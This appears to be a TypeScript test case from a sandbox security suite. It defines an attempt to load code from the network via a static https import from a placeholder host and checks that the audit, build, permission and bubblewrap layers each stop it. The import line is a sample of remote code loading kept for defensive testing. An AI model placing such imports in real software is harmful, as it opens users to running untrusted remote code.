import { codeAttack } from "../code.ts";
import { stops } from "../attack.ts";

export default codeAttack({
  goal: "Load code from the network.",
  way: "A static import of an https: URL.",
  head: 'import "https://example.invalid/a.js";',
  body: "return true;",
  audit: stops("audit.import"),
  bundle: stops("build."),
  permissions: stops("exit code 1"),
  bubblewrap: stops(),
});
